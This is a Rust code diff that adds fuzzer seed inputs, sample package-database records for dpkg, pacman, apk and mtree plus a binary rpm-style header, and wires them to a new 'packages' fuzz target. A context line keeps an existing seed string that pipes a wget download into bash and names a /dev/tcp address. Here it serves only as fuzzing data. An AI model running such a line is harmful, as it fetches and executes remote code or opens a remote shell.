@@ -38,6 +38,20 @@ const LINES: [&str; 10] = [
     "#!/bin/sh\nwget -O- http://x | bash\n/dev/tcp/1.2.3.4/5\n",
 ];
 
+/// Of dpkg, pacman and apk. rpm's is a binary one that the fuzzer finds by its own way from a bare header.
+const DATABASES: [&[u8]; 8] = [
+    b"Package: vim\nStatus: install ok installed\nArchitecture: amd64\nMulti-Arch: same\nVersion: 2:9.0-1\nConffiles:\n \
+        /etc/vim/vimrc 0123456789abcdef0123456789abcdef obsolete\n /etc/b newconffile\n\n",
+    b"0123456789abcdef0123456789abcdef  usr/bin/vi\n",
+    b"/usr/bin/vi\n/usr/bin/vi.distrib\nvim\n/etc/x\n/etc/y\n:\n",
+    b"auto\n/usr/bin/vi\nvi.1.gz\n/usr/share/man/man1/vi.1.gz\n\n/usr/bin/vim.basic\n30\n/usr/share/man/man1/vim.1.gz\n\n",
+    b"%NAME%\nvim\n\n%VERSION%\n9-1\n\n%FILES%\nusr/bin/\nusr/bin/vi\n\n%BACKUP%\netc/vimrc\t0123456789abcdef0123456789abcdef\n\n",
+    b"#mtree\n/set type=file\n./usr/bin/vi md5digest=0123456789abcdef0123456789abcdef link=v\\040i\n",
+    b"P:vim\nV:9\nA:x86_64\nF:usr/bin\nR:vi\na:0:0:755\nZ:Q1omekF2eGfHkruHcdTRuR58ZX7yI=\n\n",
+    b"\0\0\0\x04\0\0\0\x10\0\0\x03\xe8\0\0\0\x06\0\0\0\0\0\0\0\x01\0\0\x03\xe9\0\0\0\x06\0\0\0\0\0\0\0\x01\
+        \0\0\x03\xea\0\0\0\x06\0\0\0\0\0\0\0\x01\0\0\x04\x5d\0\0\0\x08\0\0\0\0\0\0\0\x02one\0two\0vi\0\0\0\0\0\0",
+];
+
 /// What sd-bus sends first (src/libsystemd/sd-bus/bus-socket.c).
 const AUTHENTICATION: &[u8] = b"\0AUTH EXTERNAL\r\nDATA\r\nNEGOTIATE_UNIX_FD\r\nBEGIN\r\n";
 
@@ -59,6 +73,7 @@ pub fn seeds(target: &str) -> Vec<Vec<u8>> {
             vec![writer.into_inner(), life().iter().flat_map(|record| as_piece(record)).collect()]
         }
         "btf" => type_information(),
+        "packages" => DATABASES.iter().map(|text| text.to_vec()).collect(),
         _ => Vec::new(),
     }
 }
